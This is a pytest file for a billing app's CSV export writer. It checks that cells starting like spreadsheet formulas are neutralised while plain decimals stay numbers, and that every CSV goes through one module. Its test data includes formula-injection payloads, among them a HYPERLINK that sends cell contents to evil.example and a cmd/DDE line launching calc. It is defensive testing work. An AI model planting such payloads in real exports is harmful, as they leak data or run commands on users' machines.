"""The one CSV writer (`hoopbilling.exports`): formulas neutralised, plain numbers kept, and
no export that writes CSV by any other road."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from hoopbilling.exports import SafeCsvWriter, csv_cell

ROOT = Path(__file__).resolve().parents[1]
CSV_MODULE_USE = re.compile(r"^\s*(import csv\b|from csv import)|csv\.(writer|DictWriter)\(",
                            re.MULTILINE)


@pytest.mark.parametrize(("value", "written"), [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")',
     '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+1+1", "'+1+1"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    # OWASP's rule would prefix these too; they parse as plain decimals, so they stay numbers
    ("-12.50", "-12.50"),
    (Decimal("-3.500000"), "-3.500000"),
    ("-7", "-7"),
    # ... but only a strict decimal counts as a number
    ("-1e3", "'-1e3"),
    ("-12.50 ", "'-12.50 "),
    ("-.5", "'-.5"),
    ("+12.50", "'+12.50"),
    ("-12,50", "'-12,50"),
    ("Acme = Dental", "Acme = Dental"),
    ("", ""),
    (None, ""),
    (12, "12"),
    (True, "True"),
])
def test_cell_starting_like_a_formula_is_quoted_and_a_plain_number_is_kept(value, written):
    assert csv_cell(value) == written


def test_writer_neutralises_every_cell_and_keeps_csv_quoting():
    out = io.StringIO()
    SafeCsvWriter(out).writerow(["=1+1", "-4.20", 'say "hi", then =2'])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1+1", "-4.20", 'say "hi", then =2']]


def test_every_csv_is_written_through_hoopbilling_exports():
    # An export writing with the csv module itself would skip the neutralising writer.
    offenders = [str(path.relative_to(ROOT))
                 for package in ("hoopbilling", "agencies", "subaccounts", "wallets")
                 for path in (ROOT / package).rglob("*.py")
                 if path != ROOT / "hoopbilling" / "exports.py"
                 and CSV_MODULE_USE.search(path.read_text())]
    assert offenders == []
